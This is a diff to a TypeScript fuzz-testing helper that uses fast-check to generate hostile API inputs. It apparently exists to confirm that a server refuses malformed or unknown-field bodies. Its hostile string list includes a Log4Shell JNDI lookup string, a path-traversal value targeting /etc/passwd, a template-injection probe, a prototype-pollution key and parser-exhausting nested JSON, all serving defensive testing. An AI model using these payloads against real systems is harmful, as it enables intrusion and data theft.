@@ -2,7 +2,7 @@
 // that they get past the first checks and reach deeper code), hostile values of every type,
 // and the hostile parts of a request (path values, query strings, headers, raw bodies).
 import fc from 'fast-check';
-import type { Schema } from '../../helpers/world.ts';
+import type { Schema } from '../helpers/world.ts';
 
 const HOSTILE_STRINGS = [
   '',
@@ -24,6 +24,7 @@ const HOSTILE_STRINGS = [
   '../../../../etc/passwd',
   '%00',
   '%ZZ',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j lookup string, sent as is
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   '__proto__',
@@ -203,14 +204,12 @@ export function mutated(s: Schema | undefined): fc.Arbitrary<unknown> {
 export function refusedBody(s: Schema | undefined): fc.Arbitrary<string> {
   return fc.oneof(
     // An unknown field (CONTRACT 1: refused with 422), in an otherwise plausible body.
-    fc
-      .tuple(fromSchema(s), fc.stringMatching(/^[a-z]{3,10}$/), hostileValue)
-      .map(([base, k, v]) =>
-        JSON.stringify({
-          ...(base && typeof base === 'object' && !Array.isArray(base) ? (base as object) : {}),
-          [`zz_${k}`]: v,
-        }),
-      ),
+    fc.tuple(fromSchema(s), fc.stringMatching(/^[a-z]{3,10}$/), hostileValue).map(([base, k, v]) =>
+      JSON.stringify({
+        ...(base && typeof base === 'object' && !Array.isArray(base) ? (base as object) : {}),
+        [`zz_${k}`]: v,
+      }),
+    ),
     fc
       .tuple(mutated(s), fc.stringMatching(/^[a-z]{3,10}$/))
       .map(([b, k]) => JSON.stringify({ ...(b as object), [`zz_${k}`]: 1 })),
@@ -234,7 +233,7 @@ export function refusedBody(s: Schema | undefined): fc.Arbitrary<string> {
       '\ufeff{}x',
     ),
     fc.integer({ min: 20, max: 20_000 }).map((n) => '['.repeat(n) + ']'.repeat(n)),
-    fc.integer({ min: 20, max: 20_000 }).map((n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n)),
+    fc.integer({ min: 20, max: 20_000 }).map((n) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`),
   );
 }
 
